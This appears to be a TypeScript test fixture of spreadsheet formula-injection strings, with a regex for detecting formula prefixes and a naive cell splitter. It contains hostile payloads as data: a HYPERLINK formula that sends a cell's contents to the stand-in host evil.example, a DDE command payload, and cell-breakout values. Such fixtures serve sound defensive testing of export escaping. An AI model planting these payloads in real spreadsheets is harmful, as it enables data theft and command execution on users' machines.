/** Names and messages that try to make a spreadsheet run something, or to break out of their cell. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "＝", "＋", "－", "＠"].flatMap((start) => [
    `${start}HYPERLINK("https://evil.example/?"&A1,"x")`,
    ...[",", ";", "\t", "\r\n", "; ", ',"', ';"'].map((mark) => `Ola${mark}${start}1+1`),
  ]),
  `=cmd|'/C calc'!A0`,
  'Ola",=1+1,"',
  'Ola"";=1+1;""',
  "a;b;=1,=2\t=3\n=4",
  `"=1+1"`,
];

export const STARTS_FORMULA = /^[\s"]*[=+\-@＝＋－＠]/u;

/** The cells of a line as the most careless programs find them: split at every mark, quotes or not. */
export function cellsUnderAnyReading(line: string): string[] {
  return line.split(/[,;\t\r\n]/);
}
